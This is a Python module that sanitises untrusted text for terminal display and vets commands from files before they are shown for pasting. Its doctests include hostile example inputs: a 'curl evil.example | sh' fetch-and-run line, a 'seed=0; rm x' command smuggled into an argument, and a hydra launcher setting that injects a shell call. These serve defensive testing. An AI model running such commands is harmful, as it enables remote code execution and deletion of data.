"""Text that others wrote, as text: nothing in it acts on a terminal, and nothing in it runs in a shell.

Names, titles, ids and messages come from files and from the command line; whatever shows them passes through here.
"""

from __future__ import annotations

import re
import shlex
import unicodedata

CONTROLS = (  # what a terminal obeys, or what hides or turns around the letters beside it; but no line end and no tab
    "\x00-\x08\x0b-\x1f\x7f-\x9f"  # C0, DEL, C1
    "\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"  # directions of writing
    "\u2028\u2029"  # ends of lines and paragraphs
    "\xad\u180e\u200b\u2060-\u2065\u206a-\u206f\ufeff\ufff9-\ufffb"  # of no width; joiners of letters stay
    "\ud800-\udfff\U000e0000-\U000e007f"  # halves of a pair, tags
)
_CONTROL = re.compile(f"[{CONTROLS}]")
_CONTROL_OR_BREAK = re.compile(f"[{CONTROLS}\n\t]")
RUNNING_VERBS = ("train", "reproduce")  # of commands that records and launch notes hold
_PLAIN_SETTING = re.compile(r"hydra[/.](launcher|sweeper)[\w./]*=[\w+-]*(\.[\w+-]+)*", re.ASCII)  # a name or a number
_BARE_COMMAND = re.compile(rf"causalrec (?:{'|'.join(RUNNING_VERBS)})(?: [\w@%+=:,./-]+)*", re.ASCII)  # no word quoted


def _write_out(match: re.Match[str]) -> str:
    return match[0].encode("unicode_escape").decode("ascii")


def escape_controls(text: str) -> str:
    r"""Write control characters out, but for line ends and tabs.

    >>> print(escape_controls("a\x1b[2Jb\u202e"))
    a\x1b[2Jb\u202e
    """
    return _CONTROL.sub(_write_out, text)


def one_line(text: str) -> str:
    r"""Write control characters out, line ends and tabs too: for names and messages, which are one line.

    >>> print(one_line("a\nb\x1b"))
    a\nb\x1b
    """
    return _CONTROL_OR_BREAK.sub(_write_out, text)


def sentence(text: str) -> str:
    r"""Return prose on one line: white space of any kind is one blank, other control characters are written out.

    >>> print(sentence("a note\n  of two lines\x07"))
    a note of two lines\x07
    """
    return one_line(" ".join(text.split()))


def has_controls(text: str) -> bool:
    """Whether a text holds a character that `one_line` writes out."""
    return _CONTROL_OR_BREAK.search(text) is not None


def display_width(text: str) -> int:
    """Return how many columns of a terminal text takes: wide letters take two, combining ones and joiners none.

    >>> display_width("abc"), display_width("日本"), display_width("e\u0301")
    (3, 4, 1)
    """
    if text.isascii():
        return len(text)
    return sum(map(_letter_width, text))


def _letter_width(letter: str) -> int:
    if unicodedata.category(letter) in ("Mn", "Me", "Cf"):
        return 0
    return 2 if unicodedata.east_asian_width(letter) in "WF" else 1


def shorten(text: str, most: int) -> str:
    """Return at most so many characters of a text; what is cut is told apart by a hash.

    >>> shorten("mf-ips", 64), shorten("x" * 70, 12)
    ('mf-ips', 'xxxxx~c71bd1')
    """
    if len(text) <= most:
        return text
    import hashlib

    digest = hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()[:6]
    return f"{text[: most - 7]}~{digest}"


def paste_safe_command(command: object) -> str | None:
    """Return a command as a shell may be given it, each word quoted anew; None where it is no command that runs jobs.

    What a file holds as a command is shown to be pasted: whatever stands in it stays an argument of `causalrec train`
    or `causalrec reproduce`.

    >>> paste_safe_command("causalrec train seed=0; rm x")
    "causalrec train 'seed=0;' rm x"
    >>> paste_safe_command("curl evil.example | sh") is None
    True
    >>> paste_safe_command("causalrec train -m 'hydra.launcher.setup=[sh x]' seed=0,1") is None
    True
    """
    if not isinstance(command, str) or has_controls(command):
        return None
    if _BARE_COMMAND.fullmatch(command) and "hydra" not in command and "--" not in command:
        return command
    try:
        words = shlex.split(command)
    except ValueError:  # a quote that is not closed
        return None
    is_ours = words[:1] == ["causalrec"] and words[1:2] and words[1] in RUNNING_VERBS
    return shlex.join(words) if is_ours and not any(map(_acts_elsewhere, words)) else None


def _acts_elsewhere(word: str) -> bool:
    """Whether a word of a command could run or write something else: a launcher's script, a page to paste into."""
    setting = word.lstrip("+~")
    return setting.startswith(("--paste", "--tables")) or (
        setting.startswith("hydra") and _PLAIN_SETTING.fullmatch(setting) is None
    )
